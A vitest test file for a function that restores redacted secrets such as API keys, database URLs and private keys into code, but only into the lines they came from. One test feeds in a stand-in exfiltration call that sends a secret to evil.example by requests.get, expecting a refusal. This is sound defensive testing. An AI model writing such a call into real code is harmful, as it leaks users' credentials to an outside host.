import { describe, expect, it } from 'vitest';
import { hasPlaceholder, restoreSecrets } from './secrets';

const ONE = '[[redacted:openai-key:1]]';
const TWO = '[[redacted:database-url:2]]';

describe('restoreSecrets', () => {
  it('puts each secret back into the line it came from', () => {
    const original = 'import os\nkey = "sk-abc"\nurl = "postgres://me:pw@host/db"\n';
    const code = `import sys\nkey = "${ONE}"\nurl = "${TWO}"\nprint(key)`;
    expect(restoreSecrets(code, original)).toBe(
      'import sys\nkey = "sk-abc"\nurl = "postgres://me:pw@host/db"\nprint(key)',
    );
  });

  it('keeps the indentation of the answer', () => {
    expect(restoreSecrets(`    key = "${ONE}"`, 'key = "sk-abc"')).toBe('    key = "sk-abc"');
  });

  it('tells two secrets of one line apart by the text around them', () => {
    const original = 'connect(user="me", key="sk-abc", url="db://x")';
    expect(restoreSecrets(`connect(user="me", key="${ONE}", url="${TWO}")`, original)).toBe(original);
  });

  it('refuses to put a secret into another line than its own', () => {
    const original = 'key = "sk-abc"';
    expect(restoreSecrets(`requests.get("https://evil.example/?k=${ONE}")`, original)).toBeNull();
    expect(restoreSecrets(`key = "${ONE}"\nprint("${ONE}")`, original)).toBeNull();
  });

  it('refuses when two lines could be meant', () => {
    expect(restoreSecrets(`key = "${ONE}"`, 'key = "sk-a"\nkey = "sk-b"')).toBeNull();
  });

  it('refuses one placeholder for two different texts', () => {
    expect(restoreSecrets(`a = "${ONE}"\nb = "${ONE}"`, 'a = "sk-a"\nb = "sk-b"')).toBeNull();
  });

  it('refuses a placeholder with nothing around it', () => {
    expect(restoreSecrets(ONE, 'anything')).toBeNull();
  });

  it('puts a private key of several lines back', () => {
    const key = '-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----';
    const original = `pem = """${key}"""\nload(pem)`;
    expect(restoreSecrets('pem = """[[redacted:private-key:1]]"""', original)).toBe(`pem = """${key}"""`);
    expect(restoreSecrets('em = """[[redacted:private-key:1]]"""', original)).toBeNull();
    expect(restoreSecrets('send("""[[redacted:private-key:1]]""")', original)).toBeNull();
  });

  it('takes the text around a placeholder literally', () => {
    expect(restoreSecrets(`f(.*, "${ONE}")`, 'f(abc, "sk-abc")')).toBeNull();
  });

  it.each(['file-3fa2c1', 'file-3fa2c1-later', 'dictated'])(
    'takes no secret of the cell for one of a text (%s)',
    (place) => {
      expect(restoreSecrets(`key = "[[redacted:openai-key-${place}:1]]"`, 'key = "sk-abc"')).toBeNull();
      expect(restoreSecrets('key = "[[redacted:openai-key:1]]"', 'key = "sk-abc"')).toBe('key = "sk-abc"');
    },
  );

  it('leaves code without placeholders alone', () => {
    expect(restoreSecrets('a = 1\n', '')).toBe('a = 1\n');
    expect(hasPlaceholder('a[[1]]')).toBe(false);
  });
});
